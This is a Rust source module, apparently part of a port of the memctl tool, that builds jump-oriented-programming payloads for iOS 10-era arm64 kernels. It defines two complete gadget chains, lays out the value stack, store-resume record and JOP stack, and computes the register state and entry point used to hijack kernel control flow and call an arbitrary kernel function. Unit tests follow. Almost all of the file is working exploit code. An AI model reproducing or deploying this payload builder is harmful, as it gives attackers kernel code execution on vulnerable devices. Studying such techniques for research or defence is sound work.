//! Component F: the JOP (jump-oriented-programming) payload builder,
//! grounded on the stack layout and gadget-chaining logic documented at
//! the top of
//! `examples/original_source/src/libmemctl/aarch64/kernel_call_aarch64.c`
//! (the `jop_1`/`jop_2` strategies and the `VALUE_STACK`/`STORE_RESUME`/
//! `JOP_STACK` layout diagram).
//!
//! A JOP payload is a single allocation in kernel memory holding three
//! regions back to back: a *value stack* the dispatcher loads call
//! arguments from, a two-word *store-resume* record used to recover the
//! JOP stack after the result is written back, and the *JOP stack*
//! itself -- a linked list of `(gadget address, next node address)` pairs
//! that the dispatcher gadget walks. This module only *builds* that byte
//! layout and the initial register state a caller must seed before
//! yielding control to `entry_pc`; writing it into kernel memory and
//! actually diverting control flow is [`crate::trap_hook`]/the caller's
//! Mach IPC layer's job.

use crate::config::KernelCallConfig;
use crate::gadgets::GadgetAddresses;
use thiserror::Error;

#[derive(Debug, Error)]
pub enum JopError {
    #[error("JOP strategy unavailable: required gadget {0:?} was not found during scanning")]
    MissingGadget(&'static str),
    #[error("call takes {0} arguments, JOP payload construction supports at most {1}")]
    TooManyArguments(usize, usize),
}

/// `kernel_call_aarch64.c` calls functions with exactly 8 argument slots
/// (`a0..a7`), zero-padding any trailing ones the caller didn't supply.
pub const MAX_ARGUMENTS: usize = 8;

mod g {
    pub const LDP_X2_X1_X1__BR_X2: &str = "ldp x2, x1, [x1] ; br x2";
    pub const MOV_X12_X2__BR_X3: &str = "mov x12, x2 ; br x3";
    pub const MOV_X2_X30__BR_X12: &str = "mov x2, x30 ; br x12";
    pub const MOV_X8_X4__BR_X5: &str = "mov x8, x4 ; br x5";
    pub const MOV_X21_X2__BR_X8: &str = "mov x21, x2 ; br x8";
    pub const MOV_X20_X0__BLR_X8: &str = "mov x20, x0 ; blr x8";
    pub const MOV_X10_X4__BR_X8: &str = "mov x10, x4 ; br x8";
    pub const MOV_X9_X10__BR_X8: &str = "mov x9, x10 ; br x8";
    pub const MOV_X11_X9__BR_X8: &str = "mov x11, x9 ; br x8";
    pub const LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8: &str =
        "ldp x3, x4, [x20, #0x20] ; ldp x5, x6, [x20, #0x30] ; blr x8";
    pub const ADD_X20_X20_34__BR_X8: &str = "add x20, x20, #0x34 ; br x8";
    pub const MOV_X22_X6__BLR_X8: &str = "mov x22, x6 ; blr x8";
    pub const MOV_X24_X4__BR_X8: &str = "mov x24, x4 ; br x8";
    pub const MOV_X0_X3__BLR_X8: &str = "mov x0, x3 ; blr x8";
    pub const MOV_X28_X0__BLR_X8: &str = "mov x28, x0 ; blr x8";
    pub const MOV_X12_X3__BR_X8: &str = "mov x12, x3 ; br x8";
    pub const MOV_X0_X5__BLR_X8: &str = "mov x0, x5 ; blr x8";
    pub const MOV_X9_X0__BR_X11: &str = "mov x9, x0 ; br x11";
    pub const MOV_X7_X9__BLR_X11: &str = "mov x7, x9 ; blr x11";
    pub const MOV_X11_X24__BR_X8: &str = "mov x11, x24 ; br x8";
    pub const MOV_X1_X9__MOV_X2_X10__BLR_X11: &str = "mov x1, x9 ; mov x2, x10 ; blr x11";
    pub const MOV_X30_X28__BR_X12: &str = "mov x30, x28 ; br x12";
    pub const LDP_X8_X1_X20_10__BLR_X8: &str = "ldp x8, x1, [x20, #0x10] ; blr x8";
    pub const STR_X0_X20__LDR_X8_X22__LDR_X8_X8_28__MOV_X0_X22__BLR_X8: &str =
        "str x0, [x20] ; ldr x8, [x22] ; ldr x8, [x8, #0x28] ; mov x0, x22 ; blr x8";
    pub const MOV_X30_X21__BR_X8: &str = "mov x30, x21 ; br x8";
    pub const RET: &str = "ret";
    pub const MOV_X28_X2__BLR_X8: &str = "mov x28, x2 ; blr x8";
    pub const MOV_X21_X5__BLR_X8: &str = "mov x21, x5 ; blr x8";
    pub const MOV_X15_X5__BR_X11: &str = "mov x15, x5 ; br x11";
    pub const MOV_X17_X15__BR_X8: &str = "mov x17, x15 ; br x8";
    pub const MOV_X30_X22__BR_X17: &str = "mov x30, x22 ; br x17";
    pub const STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8: &str =
        "str x0, [x20] ; ldr x8, [x21] ; ldr x8, [x8, #0x28] ; mov x0, x21 ; blr x8";
    pub const MOV_X30_X28__BR_X8: &str = "mov x30, x28 ; br x8";
}

/// Which of the two documented gadget sets a payload was built against.
/// `First` matches the iOS 10.1.1 14B100 kernelcache this crate's
/// grounding source targeted; `Second` is the alternative set documented
/// for iOS 10.2 14C92 -- a given kernel build may carry one set but not
/// the other, so [`build`] picks whichever is fully present.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JopStrategy {
    First,
    Second,
}

/// Every distinct gadget `build`'s `First` strategy reads from, in no
/// particular order.
const REQUIRED_FIRST: &[&str] = &[
    g::LDP_X2_X1_X1__BR_X2,
    g::MOV_X12_X2__BR_X3,
    g::MOV_X2_X30__BR_X12,
    g::MOV_X8_X4__BR_X5,
    g::MOV_X21_X2__BR_X8,
    g::MOV_X20_X0__BLR_X8,
    g::MOV_X10_X4__BR_X8,
    g::MOV_X9_X10__BR_X8,
    g::MOV_X11_X9__BR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X22_X6__BLR_X8,
    g::MOV_X24_X4__BR_X8,
    g::MOV_X0_X3__BLR_X8,
    g::MOV_X28_X0__BLR_X8,
    g::MOV_X12_X3__BR_X8,
    g::MOV_X0_X5__BLR_X8,
    g::MOV_X9_X0__BR_X11,
    g::MOV_X7_X9__BLR_X11,
    g::MOV_X11_X24__BR_X8,
    g::MOV_X1_X9__MOV_X2_X10__BLR_X11,
    g::MOV_X30_X28__BR_X12,
    g::LDP_X8_X1_X20_10__BLR_X8,
    g::STR_X0_X20__LDR_X8_X22__LDR_X8_X8_28__MOV_X0_X22__BLR_X8,
    g::MOV_X30_X21__BR_X8,
    g::RET,
];

/// Every distinct gadget `build`'s `Second` strategy reads from.
const REQUIRED_SECOND: &[&str] = &[
    g::LDP_X2_X1_X1__BR_X2,
    g::MOV_X12_X2__BR_X3,
    g::MOV_X2_X30__BR_X12,
    g::MOV_X8_X4__BR_X5,
    g::MOV_X28_X2__BLR_X8,
    g::MOV_X20_X0__BLR_X8,
    g::MOV_X10_X4__BR_X8,
    g::MOV_X9_X10__BR_X8,
    g::MOV_X11_X9__BR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X21_X5__BLR_X8,
    g::MOV_X22_X6__BLR_X8,
    g::MOV_X24_X4__BR_X8,
    g::MOV_X15_X5__BR_X11,
    g::MOV_X17_X15__BR_X8,
    g::MOV_X0_X3__BLR_X8,
    g::MOV_X9_X0__BR_X11,
    g::MOV_X7_X9__BLR_X11,
    g::MOV_X0_X5__BLR_X8,
    g::MOV_X11_X24__BR_X8,
    g::MOV_X1_X9__MOV_X2_X10__BLR_X11,
    g::MOV_X30_X22__BR_X17,
    g::LDP_X8_X1_X20_10__BLR_X8,
    g::STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8,
    g::MOV_X30_X28__BR_X8,
];

/// The `First` strategy's JOP-stack call chain, in execution order
/// (repeats included -- the same load/advance gadget pair is replayed
/// once per argument group).
const CALL_CHAIN_FIRST: &[&str] = &[
    g::MOV_X20_X0__BLR_X8,
    g::MOV_X10_X4__BR_X8,
    g::MOV_X9_X10__BR_X8,
    g::MOV_X11_X9__BR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X22_X6__BLR_X8,
    g::MOV_X24_X4__BR_X8,
    g::MOV_X0_X3__BLR_X8,
    g::MOV_X28_X0__BLR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X12_X3__BR_X8,
    g::MOV_X0_X5__BLR_X8,
    g::MOV_X9_X0__BR_X11,
    g::MOV_X7_X9__BLR_X11,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X0_X3__BLR_X8,
    g::MOV_X9_X0__BR_X11,
    g::MOV_X10_X4__BR_X8,
    g::MOV_X0_X5__BLR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::MOV_X11_X24__BR_X8,
    g::MOV_X1_X9__MOV_X2_X10__BLR_X11,
];

const RETURN_CHAIN_FIRST: &[&str] = &[
    g::STR_X0_X20__LDR_X8_X22__LDR_X8_X8_28__MOV_X0_X22__BLR_X8,
    g::MOV_X30_X21__BR_X8,
    g::RET,
];

/// The `Second` strategy's JOP-stack call chain, in execution order.
const CALL_CHAIN_SECOND: &[&str] = &[
    g::MOV_X20_X0__BLR_X8,
    g::MOV_X10_X4__BR_X8,
    g::MOV_X9_X10__BR_X8,
    g::MOV_X11_X9__BR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X21_X5__BLR_X8,
    g::MOV_X22_X6__BLR_X8,
    g::MOV_X24_X4__BR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X15_X5__BR_X11,
    g::MOV_X17_X15__BR_X8,
    g::MOV_X0_X3__BLR_X8,
    g::MOV_X9_X0__BR_X11,
    g::MOV_X7_X9__BLR_X11,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::ADD_X20_X20_34__BR_X8,
    g::MOV_X0_X3__BLR_X8,
    g::MOV_X9_X0__BR_X11,
    g::MOV_X10_X4__BR_X8,
    g::MOV_X0_X5__BLR_X8,
    g::LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    g::MOV_X11_X24__BR_X8,
    g::MOV_X1_X9__MOV_X2_X10__BLR_X11,
];

const RETURN_CHAIN_SECOND: &[&str] = &[
    g::STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8,
    g::MOV_X30_X28__BR_X8,
    g::RET,
];

const VALUE_STACK_OFFSET: usize = 0;
const STORE_RESUME_OFFSET: usize = 0;
const STORE_RESUME_DELTA: i64 = -0x28;

/// Checks that `gadgets` has everything [`build`] needs for some
/// strategy, returning the strategy it would pick.
pub fn check_available(gadgets: &GadgetAddresses) -> Result<JopStrategy, JopError> {
    choose_strategy(gadgets)
}

fn choose_strategy(gadgets: &GadgetAddresses) -> Result<JopStrategy, JopError> {
    if gadgets.contains_all(REQUIRED_FIRST) {
        return Ok(JopStrategy::First);
    }
    if gadgets.contains_all(REQUIRED_SECOND) {
        return Ok(JopStrategy::Second);
    }
    let missing = REQUIRED_FIRST
        .iter()
        .find(|name| gadgets.get(name).is_none())
        .expect("contains_all returned false but no missing name found");
    Err(JopError::MissingGadget(missing))
}

/// A built JOP payload: the bytes to write at some allocated kernel
/// address, plus the register values and entry point a caller must seed
/// before yielding control to the dispatcher gadget.
#[derive(Debug, Clone)]
pub struct JopPayload {
    pub stack_bytes: Vec<u8>,
    pub entry_pc: u64,
    /// The seven initial general-purpose register values (`x0..x6`) the
    /// caller must load before branching to `entry_pc`.
    pub initial_regs: [u64; 7],
    /// Offset of the call's return value within `stack_bytes`.
    pub result_offset: u64,
    pub strategy: JopStrategy,
}

/// Builds a JOP payload that calls `target(args[0..])`, zero-padding any
/// argument past `args.len()` up to 8. `stack_base` is the runtime
/// address the payload bytes will be mapped at once allocated.
pub fn build(
    config: &KernelCallConfig,
    gadgets: &GadgetAddresses,
    stack_base: u64,
    target: u64,
    args: &[u64],
) -> Result<JopPayload, JopError> {
    if args.len() > MAX_ARGUMENTS {
        return Err(JopError::TooManyArguments(args.len(), MAX_ARGUMENTS));
    }
    let mut a = [0u64; MAX_ARGUMENTS];
    a[..args.len()].copy_from_slice(args);

    let strategy = choose_strategy(gadgets)?;
    let addr = |name: &'static str| gadgets.get(name).ok_or(JopError::MissingGadget(name));

    let mut stack_bytes = vec![config.jop_filler_byte; config.jop_payload_size];

    let store_resume = stack_base + STORE_RESUME_OFFSET as u64;
    let dispatcher = addr(g::LDP_X2_X1_X1__BR_X2)?;
    write_u64(
        &mut stack_bytes,
        STORE_RESUME_OFFSET,
        (store_resume as i64 + 8 + STORE_RESUME_DELTA) as u64,
    );
    write_u64(&mut stack_bytes, STORE_RESUME_OFFSET + 8, dispatcher);

    let (call_chain, return_chain) = match strategy {
        JopStrategy::First => (CALL_CHAIN_FIRST, RETURN_CHAIN_FIRST),
        JopStrategy::Second => (CALL_CHAIN_SECOND, RETURN_CHAIN_SECOND),
    };

    let jop_stack_offset = config.jop_stack_offset;
    let mut node_offset = jop_stack_offset;
    for name in call_chain.iter().chain(return_chain.iter()) {
        let gadget_addr = addr(name)?;
        node_offset += 16;
        write_u64(&mut stack_bytes, node_offset - 16, gadget_addr);
        write_u64(&mut stack_bytes, node_offset - 8, stack_base + node_offset as u64);
    }
    let jop_return_chain = stack_base + (jop_stack_offset + call_chain.len() * 16) as u64;

    let advance = config.jop_load_advance as usize;
    let frame = |n: usize| VALUE_STACK_OFFSET + n * advance;

    match strategy {
        JopStrategy::First => {
            write_u64(&mut stack_bytes, frame(0) + 0x20, addr(g::LDP_X8_X1_X20_10__BLR_X8)?);
            write_u64(&mut stack_bytes, frame(0) + 0x28, addr(g::MOV_X30_X28__BR_X12)?);
            write_u64(&mut stack_bytes, frame(0) + 0x38, store_resume);
            write_u64(&mut stack_bytes, frame(1) + 0x20, target);
            write_u64(&mut stack_bytes, frame(1) + 0x30, a[7]);
        }
        JopStrategy::Second => {
            write_u64(&mut stack_bytes, frame(0) + 0x28, addr(g::MOV_X30_X22__BR_X17)?);
            write_u64(&mut stack_bytes, frame(0) + 0x30, store_resume);
            write_u64(&mut stack_bytes, frame(0) + 0x38, addr(g::LDP_X8_X1_X20_10__BLR_X8)?);
            write_u64(&mut stack_bytes, frame(1) + 0x20, a[7]);
            write_u64(&mut stack_bytes, frame(1) + 0x30, target);
        }
    }
    write_u64(&mut stack_bytes, frame(2) + 0x20, a[1]);
    write_u64(&mut stack_bytes, frame(2) + 0x28, a[2]);
    write_u64(&mut stack_bytes, frame(2) + 0x30, a[0]);

    write_u64(&mut stack_bytes, frame(3) + 0x10, dispatcher);
    write_u64(&mut stack_bytes, frame(3) + 0x18, jop_return_chain);

    write_u64(&mut stack_bytes, frame(3) + 0x20, a[3]);
    write_u64(&mut stack_bytes, frame(3) + 0x28, a[4]);
    write_u64(&mut stack_bytes, frame(3) + 0x30, a[5]);
    write_u64(&mut stack_bytes, frame(3) + 0x38, a[6]);

    write_u64(&mut stack_bytes, config.jop_result_offset as usize, 0);

    let initial_regs = [
        stack_base + VALUE_STACK_OFFSET as u64,
        stack_base + jop_stack_offset as u64,
        addr(g::MOV_X8_X4__BR_X5)?,
        addr(g::MOV_X2_X30__BR_X12)?,
        dispatcher,
        match strategy {
            JopStrategy::First => addr(g::MOV_X21_X2__BR_X8)?,
            JopStrategy::Second => addr(g::MOV_X28_X2__BLR_X8)?,
        },
        0,
    ];

    Ok(JopPayload {
        stack_bytes,
        entry_pc: addr(g::MOV_X12_X2__BR_X3)?,
        initial_regs,
        result_offset: config.jop_result_offset,
        strategy,
    })
}

fn write_u64(buf: &mut [u8], offset: usize, value: u64) {
    buf[offset..offset + 8].copy_from_slice(&value.to_le_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gadgets::{self, ScannableSegment, VmProt};
    use std::sync::atomic::AtomicBool;

    fn discovered_gadgets() -> GadgetAddresses {
        let catalog = gadgets::catalog();
        let mut bytes = Vec::new();
        for gadget in catalog {
            for w in gadget.words {
                bytes.extend_from_slice(&w.to_le_bytes());
            }
        }
        let segments = [ScannableSegment {
            runtime_address: 0x4000,
            bytes: &bytes,
            init_prot: VmProt::READ | VmProt::EXECUTE,
            max_prot: VmProt::READ | VmProt::EXECUTE,
        }];
        let flag = AtomicBool::new(false);
        gadgets::scan(&segments, &flag).0
    }

    #[test]
    fn picks_first_strategy_when_all_gadgets_present() {
        let gadgets = discovered_gadgets();
        assert_eq!(check_available(&gadgets).unwrap(), JopStrategy::First);
    }

    #[test]
    fn builds_payload_with_eight_arguments() {
        let gadgets = discovered_gadgets();
        let config = KernelCallConfig::default();
        let args: Vec<u64> = (0..8).collect();
        let payload = build(&config, &gadgets, 0x8000, 0xdead_beef, &args).unwrap();
        assert_eq!(payload.strategy, JopStrategy::First);
        assert_eq!(payload.initial_regs[0], 0x8000);
        assert_eq!(payload.initial_regs[1], 0x8000 + config.jop_stack_offset as u64);
        assert_eq!(payload.stack_bytes.len(), config.jop_payload_size);
        assert_eq!(payload.result_offset, config.jop_result_offset);
    }

    #[test]
    fn jop_stack_fits_within_payload() {
        let gadgets = discovered_gadgets();
        let config = KernelCallConfig::default();
        let last_node_end = config.jop_stack_offset + (CALL_CHAIN_FIRST.len() + RETURN_CHAIN_FIRST.len()) * 16;
        assert!(last_node_end <= config.jop_payload_size);
        build(&config, &gadgets, 0x8000, 0xdead_beef, &[1, 2, 3]).unwrap();
    }

    #[test]
    fn rejects_too_many_arguments() {
        let gadgets = discovered_gadgets();
        let config = KernelCallConfig::default();
        let args = [0u64; 9];
        let err = build(&config, &gadgets, 0x8000, 0xdead_beef, &args).unwrap_err();
        assert!(matches!(err, JopError::TooManyArguments(9, MAX_ARGUMENTS)));
    }

    #[test]
    fn reports_missing_gadget_when_neither_strategy_available() {
        let gadgets = GadgetAddresses::default();
        let config = KernelCallConfig::default();
        let err = build(&config, &gadgets, 0x8000, 0xdead_beef, &[]).unwrap_err();
        assert!(matches!(err, JopError::MissingGadget(_)));
    }

    #[test]
    fn falls_back_to_second_strategy_when_first_incomplete() {
        // Scan only the gadgets the second strategy needs; the first
        // strategy's gadgets that the second doesn't share stay absent.
        let only_second: Vec<_> = gadgets::catalog()
            .iter()
            .filter(|gdt| REQUIRED_SECOND.contains(&gdt.name))
            .collect();
        let mut bytes = Vec::new();
        for gadget in &only_second {
            for w in gadget.words {
                bytes.extend_from_slice(&w.to_le_bytes());
            }
        }
        let segments = [ScannableSegment {
            runtime_address: 0x4000,
            bytes: &bytes,
            init_prot: VmProt::READ | VmProt::EXECUTE,
            max_prot: VmProt::READ | VmProt::EXECUTE,
        }];
        let flag = AtomicBool::new(false);
        let gadgets = gadgets::scan(&segments, &flag).0;
        assert_eq!(check_available(&gadgets).unwrap(), JopStrategy::Second);
    }
}
